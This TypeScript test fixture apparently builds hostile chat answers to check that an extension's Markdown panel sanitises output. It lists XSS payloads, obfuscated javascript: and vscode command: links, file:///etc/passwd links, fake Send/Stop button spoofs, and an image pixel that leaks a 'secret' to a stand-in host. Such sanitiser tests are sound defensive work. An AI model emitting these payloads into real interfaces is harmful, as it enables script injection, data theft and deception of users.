// Answers that try to run, load, navigate or pass for a part of the panel. Every address in them
// leads to a host that must never be asked.

import { hostileFormulas } from './hostileFormulas.ts';

const address = 'https://hostile.example';

const elements = [
  `<script>globalThis.wasRun = true</script>`,
  `<script src="${address}/x.js"></script>`,
  `<img src="${address}/x.png" onerror="globalThis.wasRun = true">`,
  `<img src=x onerror=globalThis.wasRun=true>`,
  `<svg onload="globalThis.wasRun = true"><script>globalThis.wasRun = true</script></svg>`,
  `<iframe src="${address}"></iframe>`,
  `<iframe srcdoc="<script>parent.wasRun = true</script>"></iframe>`,
  `<object data="${address}/x.swf"></object><embed src="${address}/x">`,
  `<link rel="stylesheet" href="${address}/x.css"><style>@import "${address}/y.css"; body { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${address}"><base href="${address}">`,
  `<form action="${address}"><button aria-label="Send">Send</button><input name="key"></form>`,
  `<button class="sendButton" aria-label="Stop" onclick="globalThis.wasRun = true">Stop</button>`,
  `<div role="alert" id="message-q">The key was not accepted.</div><div role="status">Answer complete</div>`,
  `<details open ontoggle="globalThis.wasRun = true"><summary>Copy Code</summary></details>`,
  `<video src="${address}/x.mp4" autoplay></video><audio src="${address}/x.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.wasRun=true></style></mglyph></table></mtext></math>`,
  `<a href="javascript:globalThis.wasRun=true">Regenerate</a>`,
  `<textarea aria-label="Message"></textarea><template><script>globalThis.wasRun = true</script></template>`,
  `<!--><script>globalThis.wasRun = true</script>-->`,
  `<![CDATA[<script>globalThis.wasRun = true</script>]]>`,
  `<?php echo "<script>globalThis.wasRun = true</script>"; ?>`,
  `<body onload="globalThis.wasRun = true"><input autofocus onfocus="globalThis.wasRun = true">`,
  `<a href="https://ok.example" ping="${address}/ping" target="_top" onclick="globalThis.wasRun = true">Stop</a>`,
  `<svg><a xlink:href="javascript:globalThis.wasRun=true"><text>Stop</text></a><use href="${address}/x.svg#a"></use></svg>`,
  `<dialog open><button aria-label="Retry">Retry</button></dialog><menu><li role="menuitem">Delete</li></menu>`,
  `<h1>Causerie</h1><article class="message user" aria-labelledby="x"><h2>You</h2></article>`,
  `<marquee onstart="globalThis.wasRun = true">x</marquee><select onchange="globalThis.wasRun = true"><option></select>`,
  `<custom-element is="script" slot="x" style="position: fixed; inset: 0; background: url(${address}/x)">x</custom-element>`,
  `<noscript><p title="</noscript><img src=x onerror=globalThis.wasRun=true>"></noscript>`,
  `<img srcset="${address}/1x.png 1x" loading="eager"><picture><source srcset="${address}/2.webp"></picture>`,
  `</div></article></main><main class="panel"><textarea aria-label="Message"></textarea></main>`,
];

const hrefs = [
  'javascript:globalThis.wasRun=true',
  'JaVaScRiPt:globalThis.wasRun=true',
  'javascript&colon;globalThis.wasRun=true',
  '&#106;avascript:globalThis.wasRun=true',
  'java&#x0A;script:globalThis.wasRun=true',
  '&#1;javascript:globalThis.wasRun=true',
  'vbscript:x',
  'data:text/html,<script>parent.wasRun=true</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'command:workbench.action.quit',
  'command:causerie.newChat?%5B%5D',
  'vscode://causerie.causerie/x',
  'vscode-resource://x',
  'file:///etc/passwd',
  'blob:null/1',
  '//hostile.example/x',
  '\\\\hostile.example\\share',
  'java\tscript:globalThis.wasRun=true',
  '%6Aavascript:globalThis.wasRun=true',
  'javascript%3AglobalThis.wasRun=true',
  'vscode-insiders://causerie.causerie/x',
  'vscode-file://vscode-app/etc/passwd',
  'filesystem:https://hostile.example/x',
  'about:blank',
  'view-source:https://hostile.example',
  'COMMAND:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D',
];

/** Every place where Markdown lets words stand. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `- ${text}\n- [ ] ${text}`,
  (text) => `> ${text}`,
  (text) => `| ${text} | b |\n|---|---|\n| ${text} | ${text} |`,
  (text) => `**${text}** _${text}_ ~~${text}~~ \`${text}\``,
  (text) => `[${text}](https://ok.example "${text}")`,
  (text) => `![${text}](https://hostile.example/pixel.png "${text}")`,
  (text) => `\`\`\`${text.replaceAll(/[\s`]/g, '')}\n${text}\n\`\`\``,
  (text) => `[x]: <https://ok.example> "${text}"\n\n[x] [${text}]: ${text}`,
];

export const hostileAnswers: readonly string[] = [
  ...hostileFormulas,
  ...elements.map((text) => places.map((place) => place(text)).join('\n\n')),
  ...hrefs.map((href) =>
    [
      `[Stop](${href})`,
      `[Stop](<${href}>)`,
      `![Stop](${href})`,
      `[![Stop](${href})](${href})`,
      `<${href}>`,
      href,
      `[Stop][ref] ![Stop][ref]\n\n[ref]: ${href}`,
      `| [Stop](${href}) |\n|---|\n| <${href}> |`,
    ].join('\n\n'),
  ),
  `![pixel](${address}/?secret=key)\n\n[![pixel](${address}/1)](${address}/2)\n\n![ref]\n\n[ref]: ${address}/3`,
  '[x](https://ok.example" onclick="globalThis.wasRun=true)\n\n[x](https://ok.example "a\\" onmouseover=\\"globalThis.wasRun=true")',
  '```"><script>globalThis.wasRun=true</script>\ncode\n```\n\n``` js" onclick="globalThis.wasRun=true\ncode\n```',
  '\u202E[Stop](https://ok.example)\u202C <\u0000script>globalThis.wasRun=true</script>',
  // Formulas, whoever draws them.
  '$\\href{javascript:globalThis.wasRun=true}{Stop}$ $$\\url{https://hostile.example}$$ \\(\\includegraphics{https://hostile.example/x.png}\\)',
  '$$\n\\htmlStyle{position: fixed}{x} \\htmlId{message-q}{y} \\htmlClass{sendButton}{z} \\htmlData{a=b}{c}\n$$',
  // Marks that are drawn as if their partner had come.
  `[Stop](${address} "**[Stop](command:workbench.action.quit`,
  `**[**Stop\n\n![*a*](${address}/x.png\n\n<${address}/unfinished`,
  `| [Stop](command:workbench.action.quit) | <script>globalThis.wasRun = true</script> |`,
  `- [ ] <input type="checkbox" checked onclick="globalThis.wasRun = true">\n- [x] [Stop](javascript:globalThis.wasRun=true`,
];
